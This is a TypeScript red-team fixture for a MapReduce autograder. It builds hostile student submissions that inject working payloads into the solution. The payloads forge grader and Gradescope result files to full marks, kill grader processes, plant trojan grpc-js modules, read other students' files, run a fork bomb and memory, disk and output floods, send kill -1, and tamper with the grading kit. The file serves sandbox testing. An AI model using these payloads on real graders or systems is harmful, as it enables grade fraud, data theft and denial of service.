// Hostile submissions for the red-team suite: the reference solution plus
// one attack, written into src/mr/evil.ts and imported by the coordinator
// and the worker, so it runs in every process of the student's side. Each
// attempt is logged, with its outcome, to an evidence folder the test reads.

import * as fs from 'fs';
import * as path from 'path';

export const ATTACKS = [
  'forge', // write the grader's result file and results.json, then kill the grader and gradescope-run
  'plant', // plant a module on the module path of the kit and of the build
  'read', // read another student's code, the reference solution, the other builds
  'outlive', // leave detached and double-forked processes behind
  'flood', // print 1 GB
  'disk', // write far past the disk budget
  'forkbomb', // start processes until the system says no
  'memory', // hold 2 GB
  'signal', // signal the grader, and every process it may (kill -1)
  'kit-write', // change the kit, its compiled grader and the inputs
  'transport', // a changed transport.ts that would report the job done
  'network', // reach a server on the grading machine's network
] as const;
export type Attack = (typeof ATTACKS)[number];

export interface Targets {
  kit: string;
  evidence: string; // a folder every user may write: attempts are logged there
  readable: string[]; // files the student must not read
  results?: string; // Gradescope's results.json
  port?: number; // a TCP server of the test's on 127.0.0.1 (of the grading machine's network)
}

const SOLUTION_IMPORT = "import './evil';\n";

/** Makes a hostile copy of the solution in `dir`. */
export function makeHostile(solution: string, dir: string, attack: Attack, targets: Targets): void {
  fs.cpSync(solution, dir, { recursive: true });
  for (const file of ['coordinator.ts', 'worker.ts']) {
    const p = path.join(dir, file);
    fs.writeFileSync(p, SOLUTION_IMPORT + fs.readFileSync(p, 'utf8'));
  }
  fs.writeFileSync(path.join(dir, 'evil.ts'), payload(attack, targets));
  if (attack === 'transport') {
    // The kit's provided transport.ts, handed in changed (the solutions use the kit's copy, and hand in none).
    const p = path.join(dir, 'transport.ts');
    const marker = path.join(targets.evidence, 'hostile-transport-loaded');
    const ours = fs.readFileSync(path.join(targets.kit, 'src', 'mr', 'transport.ts'), 'utf8');
    fs.writeFileSync(p, `require('fs').writeFileSync(${JSON.stringify(marker)}, 'loaded');\n` + ours);
  }
}

function payload(attack: Attack, targets: Targets): string {
  return `// A hostile submission's payload (the kit's red-team suite).
/* eslint-disable */
const fs: any = require('fs');
const path: any = require('path');
const cp: any = require('child_process');
const T: any = ${JSON.stringify({ ...targets, attack })};
const role = /mrcoordinator/.test(process.argv[1] || '') ? 'coordinator' : 'worker';

function log(line: string): void {
  try { fs.appendFileSync(path.join(T.evidence, role + '-' + process.pid), line + '\\n'); } catch {}
}
function attempt(what: string, f: () => unknown): void {
  try { f(); log(what + ': done'); } catch (e: any) { log(what + ': ' + (e && (e.code || e.message))); }
}
function cmdline(pid: number): string[] {
  try { return fs.readFileSync('/proc/' + pid + '/cmdline', 'utf8').split('\\0'); } catch { return []; }
}
function parentOf(pid: number): number {
  try { const s = fs.readFileSync('/proc/' + pid + '/stat', 'utf8'); return Number(s.slice(s.lastIndexOf(')') + 2).split(' ')[1]); } catch { return 0; }
}
/** Processes up the chain of parents whose command line matches: its grader, and what started that. */
function ancestors(re: RegExp): number[] {
  const found: number[] = [];
  for (let pid = parentOf(process.pid); pid > 1; pid = parentOf(pid)) if (cmdline(pid).some((a) => re.test(a))) found.push(pid);
  return found;
}

const attacks: Record<string, () => void> = {
  forge() {
    for (const pid of ancestors(/grader[\\/\\\\]cli\\.js$/)) {
      const args = cmdline(pid);
      for (const flag of ['--json', '--gradescope', '--junit']) {
        const i = args.indexOf(flag);
        if (i < 0) continue;
        const fake = flag === '--gradescope'
          ? JSON.stringify({ score: 100, tests: [{ name: 'wc test', score: 100, max_score: 100, status: 'passed' }] })
          : JSON.stringify({ build: { ok: true, message: '' }, passed: true, runs: [{ run: 1, tests: ['wc', 'indexer', 'crash', 'job-count'].map((id) => ({ id, passed: true, durationMs: 1, notes: [] })) }] });
        attempt('forge ' + flag + ' ' + args[i + 1], () => fs.writeFileSync(args[i + 1], fake));
      }
      attempt('kill grader ' + pid, () => process.kill(pid, 'SIGKILL'));
    }
    if (T.results) {
      attempt('forge results.json', () => fs.writeFileSync(T.results, JSON.stringify({ score: 999, tests: [] })));
      attempt('break results.json', () => fs.writeFileSync(T.results, '{ not json'));
      attempt('remove results folder', () => fs.rmSync(path.dirname(T.results), { recursive: true }));
    }
    for (const pid of ancestors(/gradescope-run\\.js$/)) attempt('kill gradescope-run ' + pid, () => process.kill(pid, 'SIGKILL'));
  },
  plant() {
    const evil = "require('fs').writeFileSync(" + JSON.stringify(path.join(T.evidence, 'planted-module-ran-')) + " + process.pid, String(process.getuid()));";
    const spots = [
      path.join(T.kit, '.mr-build', 'node_modules', '@grpc', 'grpc-js'),
      path.join(T.kit, 'node_modules', '@grpc', 'grpc-js-planted'),
      path.resolve(__dirname, '..', '..', '..', 'node_modules', '@grpc', 'grpc-js'),
      path.resolve(__dirname, '..', '..', 'node_modules', '@grpc', 'grpc-js'),
      path.resolve(__dirname, '..', 'node_modules', '@grpc', 'grpc-js'),
    ];
    for (const dir of spots) {
      attempt('plant ' + dir, () => {
        fs.mkdirSync(dir, { recursive: true });
        fs.writeFileSync(path.join(dir, 'index.js'), evil);
        fs.writeFileSync(path.join(dir, 'package.json'), '{"name":"@grpc/grpc-js","main":"index.js"}');
      });
    }
    attempt('overwrite grpc-js', () => fs.appendFileSync(require.resolve('@grpc/grpc-js'), '\\n' + evil));
    attempt('open .mr-build', () => fs.chmodSync(path.join(T.kit, '.mr-build'), 0o1777));
  },
  read() {
    for (const file of T.readable) {
      attempt('read ' + file, () => {
        const text = fs.statSync(file).isDirectory() ? fs.readdirSync(file).join(' ') : fs.readFileSync(file, 'utf8');
        fs.writeFileSync(path.join(T.evidence, 'stolen-' + process.pid + '-' + path.basename(file)), text);
      });
    }
    attempt('list the builds', () => log('builds: ' + fs.readdirSync(path.join(T.kit, '.mr-build')).join(' ')));
    attempt('list the test folders', () => log('tests: ' + fs.readdirSync(path.resolve('..')).join(' ')));
  },
  outlive() {
    if (role !== 'worker') return;
    const beat = path.join(T.evidence, 'heartbeat-' + process.pid);
    const code = 'setInterval(() => require("fs").writeFileSync(' + JSON.stringify(beat) + ', String(Date.now())), 100)';
    attempt('detached child', () => cp.spawn(process.execPath, ['-e', code], { detached: true, stdio: 'ignore' }).unref());
    attempt('double fork', () => cp.spawn('/bin/sh', ['-c', '(setsid ' + JSON.stringify(process.execPath) + ' -e ' + JSON.stringify(code.replace(beat, beat + '-b')) + ' &) &'], { stdio: 'ignore' }).unref());
    attempt('same-group child', () => cp.spawn(process.execPath, ['-e', code.replace(beat, beat + '-g')], { stdio: 'ignore' }).unref());
  },
  flood() {
    if (role !== 'worker') return;
    log('flood: done');
    const mb = Buffer.alloc(1 << 20, 'x');
    for (let i = 0; i < 1024; ) {
      try { fs.writeSync(1, mb); i++; } catch (e: any) { if (e.code !== 'EAGAIN') throw e; }
    }
  },
  disk() {
    if (role !== 'worker') return;
    log('disk: starting');
    const mb = Buffer.alloc(1 << 20, 'y');
    attempt('fill the disk', () => {
      const fd = fs.openSync('mr-fill-' + process.pid, 'w');
      for (let i = 0; i < 5 * 1024; i++) fs.writeSync(fd, mb);
    });
    attempt('fill /tmp', () => {
      for (let n = 0; n < 100; n++) {
        const fd = fs.openSync('/tmp/mr-fill-' + process.pid + '-' + n, 'w');
        for (let i = 0; i < 32; i++) fs.writeSync(fd, mb);
        fs.closeSync(fd);
      }
    });
  },
  forkbomb() {
    if (role !== 'worker') return;
    let n = 0;
    log('fork bomb: starting');
    attempt('fork bomb', () => {
      for (; n < 5000; n++) cp.spawn('/bin/sleep', ['600'], { stdio: 'ignore', detached: n % 2 === 0 }).unref();
    });
    log('started ' + n);
  },
  memory() {
    if (role !== 'worker') return;
    log('memory: starting');
    const hold: Buffer[] = [];
    for (let i = 0; i < 64; i++) hold.push(Buffer.alloc(32 << 20, 1)); // filled, so every page is real
    log('memory: held ' + hold.length);
  },
  signal() {
    for (const pid of ancestors(/grader[\\/\\\\]cli\\.js$|gradescope-run\\.js$|watchdog\\.js$/)) attempt('kill ' + pid + ' ' + cmdline(pid)[1], () => process.kill(pid, 'SIGKILL'));
    if (role === 'worker') attempt('kill -1', () => process.kill(-1, 'SIGKILL'));
  },
  'kit-write'() {
    attempt('write points.json', () => fs.writeFileSync(path.join(T.kit, 'grader', 'labs', 'mr', 'points.json'), '{"wc": 1000}'));
    attempt('write the compiled grader', () => fs.appendFileSync(path.join(T.kit, 'dist-grader', 'grader', 'report.js'), '\\n// pwned'));
    attempt('write the kit inputs', () => fs.appendFileSync(path.join(T.kit, 'inputs', 'gen-grimm.txt'), 'pwned'));
    const first = fs.readdirSync(path.resolve('..', 'inputs'))[0];
    attempt('write the job inputs', () => fs.appendFileSync(path.resolve('..', 'inputs', first), 'pwned pwned'));
  },
  transport() {},
  network() {
    log('network: starting');
    const socket = require('net').connect(T.port, '127.0.0.1');
    socket.on('connect', () => { log('connect to the grading machine: done'); socket.destroy(); });
    socket.on('error', (e: any) => log('connect to the grading machine: ' + e.code));
  },
};

attacks[T.attack]();
`;
}
